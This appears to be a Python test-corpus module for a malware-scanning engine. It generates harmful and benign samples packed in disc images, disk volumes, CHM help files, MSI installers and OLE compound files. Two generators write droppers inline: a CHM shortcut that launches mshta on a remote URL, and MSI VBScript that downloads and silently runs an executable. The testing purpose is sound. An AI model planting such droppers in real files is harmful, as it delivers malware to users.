"""Images of discs and disks, installers and other storages, with something harmful inside.

An image that is called an invoice is suspicious whatever it holds.
"""

from __future__ import annotations

from app.engine.model import Verdict
from tests.corpus.payloads import known_by_content, payload, small
from tests.corpus.registry import technique
from tests.corpus.sample import Draw, File
from tests.corpus.wrapping import disc
from tests.unit.engine.compound import compound
from tests.unit.engine.disks import fat, gpt, mbr, ntfs, vhd, vhdx
from tests.unit.engine.test_chm import chm
from tests.unit.engine.test_disk_udf import udf
from tests.unit.engine.test_ole_storage import msi


@technique("disk.iso", most=Verdict.SUSPICIOUS)
def _iso(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    return File(f"{draw.stem()}.{draw.one('iso', 'img', 'bin')}", disc(made.name, made.content))


@technique("disk.udf", most=Verdict.SUSPICIOUS)
def _udf(draw: Draw, harmful: bool) -> File:
    made = small(draw, harmful)
    name = b"\x10" + made.name.encode("utf-16-be")
    return File(f"{draw.stem()}.{draw.one('iso', 'img', 'udf')}", udf(made.content, name=name))


@technique("disk.fat", most=Verdict.SUSPICIOUS)
def _fat(draw: Draw, harmful: bool) -> File:
    made = small(draw, harmful)
    volume = fat(made.content, name=made.name, bits=draw.rng.choice((12, 16, 32)))
    return File(f"{draw.stem()}.img", volume if draw.rng.random() < 0.5 else mbr(volume))


@technique("disk.ntfs", most=Verdict.SUSPICIOUS)
def _ntfs(draw: Draw, harmful: bool) -> File:
    made = small(draw, harmful)
    volume = ntfs(made.content, name=made.name)
    return File(f"{draw.stem()}.img", mbr(volume, kind=7) if draw.rng.random() < 0.5 else gpt(volume))


@technique("disk.vhd", most=Verdict.SUSPICIOUS)
def _vhd(draw: Draw, harmful: bool) -> File:
    made = small(draw, harmful)
    disk = mbr(draw.rng.choice((fat, ntfs))(made.content, name=made.name))
    return File(f"{draw.stem()}.vhd", vhd(disk, kind=draw.rng.choice((2, 3))))


@technique("disk.vhdx", most=Verdict.SUSPICIOUS, wraps=False)
def _vhdx(draw: Draw, harmful: bool) -> File:
    made = small(draw, harmful)
    return File(f"{draw.stem()}.vhdx", vhdx(mbr(draw.rng.choice((fat, ntfs))(made.content, name=made.name))))


@technique("storage.help_file", most=Verdict.SUSPICIOUS)
def _chm(draw: Draw, harmful: bool) -> File:
    """The twin has the same control, with which help files show what else there is to read."""
    command = f",cmd.exe,/c start mshta {draw.url('hta')}"
    item = f'<PARAM name="Item1" value="{command if harmful else ",overview.htm,"}">'
    page = (
        f'<html><body><OBJECT id={draw.word()} classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>'
        f'<PARAM name="Command" value="{"ShortCut" if harmful else "Related Topics"}"><PARAM name="Button" '
        f'value="Bitmap::shortcut">{item}</OBJECT><p>{draw.prose(50)}</p>'
        + (f"<script>{draw.word()}.Click();</script>" if harmful else "")
        + "</body></html>"
    )
    return File(f"{draw.stem()}.chm", chm(page.encode()))


@technique("storage.installer", most=Verdict.RESTRICTED)
def _msi(draw: Draw, harmful: bool) -> File:
    url = draw.url("exe")
    code = (
        f'Set s = CreateObject("WScript.Sh" & "ell"): s.Run "cmd /c curl -o %TEMP%\\x.exe {url} & %TEMP%\\x.exe", 0'
        if harmful
        else f'Session.Property("{draw.word().upper()}") = "1"'
    )
    strings = [b"Binary", b"CustomAction", f"{draw.word()} Setup".encode(), code.encode(), b"InstallFinalize"]
    return File(f"{draw.stem()}.msi", msi({f"Binary.{draw.word()}": code.encode()}, strings))


@technique("storage.compound_file")
def _ole(draw: Draw, harmful: bool) -> File:
    made = known_by_content(draw, harmful)
    return File(f"{draw.stem()}.bin", compound({draw.word(): made.content, "Contents": draw.prose(900).encode()}))
